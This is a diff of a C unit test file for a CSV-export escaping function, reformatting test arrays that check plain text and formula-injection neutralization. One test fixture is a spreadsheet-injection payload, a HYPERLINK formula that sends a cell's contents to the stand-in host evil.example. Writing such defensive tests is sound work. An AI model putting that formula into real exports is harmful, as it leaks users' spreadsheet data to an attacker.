@@ -25,8 +25,9 @@ static char *text_of(const char *in)
 static void plain_text_is_written_as_is(void **state)
 {
     (void)state;
-    static const char *const cases[] = {"google", "Spring Sale 2026", "naïve café", "a'b", "42",
-                                        "https://example.com/landing?utm_source=x"};
+    static const char *const cases[] = {"google",     "Spring Sale 2026",
+                                        "naïve café", "a'b",
+                                        "42",         "https://example.com/landing?utm_source=x"};
     for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
         char *got = text_of(cases[i]);
         assert_string_equal(got, cases[i]);
@@ -66,8 +67,8 @@ static void formulas_are_neutralized(void **state)
         {"-2+3", "'-2+3"},
         {"@SUM(A1:A2)", "'@SUM(A1:A2)"},
         {"\t=1", "'\t=1"},
-        {"\r=1", "\"'\r=1\""},          /* CR also forces quoting */
-        {"  =1", "\"'  =1\""},          /* leading spaces: neutralized and quoted */
+        {"\r=1", "\"'\r=1\""}, /* CR also forces quoting */
+        {"  =1", "\"'  =1\""}, /* leading spaces: neutralized and quoted */
         /* the classic: a hostile campaign name with a comma and quotes inside */
         {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""},
